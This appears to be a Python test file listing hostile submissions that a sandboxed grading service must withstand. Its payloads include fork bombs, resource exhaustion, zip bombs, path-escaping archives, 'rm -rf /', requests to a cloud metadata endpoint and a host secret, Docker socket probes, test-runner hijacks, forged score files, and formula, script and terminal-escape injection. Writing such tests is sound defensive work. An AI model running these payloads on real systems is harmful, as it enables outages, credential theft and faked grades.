"""The hostile class: every attack by name, and what is to come of it."""

from __future__ import annotations

from tests.hostile import scan
from tests.hostile.submissions import (
    CANARY,
    FULL,
    HOST,
    NO_MARK,
    Attack,
    app,
    dockerfile,
    dockerfile_is_a_link,
    files,
    links_in_circles,
    long_names,
    many_files,
    many_folders,
    many_in_a_zip,
    pipe,
    program,
    sparse_film,
    tar_that_leads_out,
    zip_bomb,
)

_STARTS = "run.app_starts"
_BUILDS = "build.dockerfile_builds"
_ANSWERS = "run.answers_on_the_published_port"
_RUN_ON_HOST = f"import pathlib\npathlib.Path({CANARY!r}).touch()\n"
_KNOCK = (
    "import socket, threading, urllib.request\n"
    "def knock(url):\n"
    "    try:\n"
    "        urllib.request.urlopen(url, timeout=3).read()\n"
    "    except Exception as error:\n"
    "        print(error)\n"
    "for url in {urls!r}:\n"
    "    threading.Thread(target=knock, args=(url,), daemon=True).start()\n"
)
_SOCKETS = (
    "import socket\n"
    "for path in ('/var/run/docker.sock', '/machine/docker.sock'):\n"
    "    try:\n"
    "        socket.socket(socket.AF_UNIX).connect(path)\n"
    "    except OSError:\n"
    "        continue\n"
    "    raise SystemExit('reached ' + path)\n"
)
_INJECTION = "=cmd|' /C calc'!A0,<script>alert(1)</script>\\x1b[2J\\x1b]0;owned\\x07\\u202e"

ATTACKS: dict[str, Attack] = {
    # what it takes
    "fork bomb": Attack(app(before="import os\nwhile True:\n    os.fork()"), _STARTS, slow=False),
    "memory": Attack(app(before="held = []\nwhile True:\n    held.append(bytearray(10**8))"), _STARTS),
    "disk in run": Attack(
        app(before="with open('/full', 'wb') as file:\n    while True:\n        file.write(bytes(10**8))"), _STARTS
    ),
    "disk in build": Attack(dockerfile("RUN dd if=/dev/zero of=/full bs=1M count=30000"), _BUILDS),
    "memory in build": Attack(dockerfile('RUN python -c "held = [bytearray(10**8) for _ in range(10**6)]"'), _BUILDS),
    # the shell itself makes two processes, before there may be none left for it
    "forks in build": Attack(dockerfile("RUN sleep 5 & slept=$!; f() { f | f & }; (f) & wait $slept"), FULL),
    "log without end": Attack(app(before="while True:\n    print('x' * 10_000)"), _STARTS),
    "answer without end": Attack(
        app(view="return app.response_class(iter(lambda: 'x' * 10_000, None))"), _ANSWERS, slow=False
    ),
    "slow answer": Attack(app(view="__import__('time').sleep(60)"), _ANSWERS),
    "answer drop by drop": Attack(
        app(view="return app.response_class(__import__('time').sleep(1) or 'x' for _ in range(10_000))"), _ANSWERS
    ),
    "cat without end": Attack(program("/bin/cat", "exec yes"), _STARTS),
    "cat that waits": Attack(program("/bin/cat", "exec sleep 1000"), _STARTS),
    "deaf to SIGTERM": Attack(app(before="import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)"), FULL),
    # what it hands in
    "zip bomb": Attack(zip_bomb, NO_MARK, slow=False),
    "tar that leads out": Attack(tar_that_leads_out, FULL, slow=False),
    "dockerfile is a link": Attack(dockerfile_is_a_link, NO_MARK, slow=False),
    "links in circles": Attack(links_in_circles, FULL),
    "many files": Attack(many_files, NO_MARK),
    "many folders": Attack(many_folders, NO_MARK),
    "many files in a zip": Attack(many_in_a_zip, NO_MARK, slow=False),
    "long names": Attack(long_names, FULL),
    "sparse film": Attack(sparse_film, NO_MARK),
    "pipe": Attack(pipe, FULL, slow=False),
    "binary Dockerfile": Attack(files(Dockerfile=bytes(range(256)) * 100), _BUILDS),
    "huge Dockerfile": Attack(files(Dockerfile=b"FROM python:3.10.6-alpine\n" + b"RUN true\n" * 5_000_000), _BUILDS),
    # what it builds from
    "private registry": Attack(dockerfile("COPY --from=registry.invalid/private:1 /x /x"), NO_MARK, slow=False),
    "on build": Attack(dockerfile("ONBUILD RUN rm -rf /"), FULL),
    "mount from another image": Attack(
        dockerfile("RUN --mount=type=bind,from=python:3.10.6-alpine,target=/other ls /other"), FULL
    ),
    "metadata in build": Attack(dockerfile("ADD http://169.254.169.254/latest/meta-data /x"), _BUILDS),
    "host in build": Attack(dockerfile(f"ADD http://{HOST}/secret /x"), _BUILDS, slow=False),
    # where it knocks
    "knocks at the host": Attack(app(before=_KNOCK.format(urls=[f"http://{HOST}/", "http://169.254.169.254/"])), FULL),
    "scans for others": Attack(app(before=scan.dying_of("Hello, World!")), FULL),
    "looks for the engine": Attack(app(before=_SOCKETS), FULL),
    # what it writes for us to read or run
    "conftest": Attack(
        files(
            **{"conftest.py": _RUN_ON_HOST, "pytest.ini": "[pytest]\naddopts = -p evil\n", "evil.py": _RUN_ON_HOST},
            **{"sitecustomize.py": _RUN_ON_HOST, "labcheck____init__.py": _RUN_ON_HOST},
        ),
        FULL,
        slow=False,
    ),
    "results of its own": Attack(
        files(**{"results.json": '{"score": 1000}', "handed-in.json": "{}", "overrides.csv": "x,*,100,because\n"}), FULL
    ),
    "catalogue of its own": Attack(files(locale__ru__LC_MESSAGES__labcheck_mo=b"\xde\x12\x04\x95evil"), FULL),
    "injection": Attack(app(before=f'print("{_INJECTION}")', view=f'return "{_INJECTION}"'), _ANSWERS, slow=False),
    "injection in a dependency": Attack(
        files(**{"requirements.txt": "Flask==3.1.3\n<script>alert(1)</script>\x1b[2J\n"}), _BUILDS
    ),
}
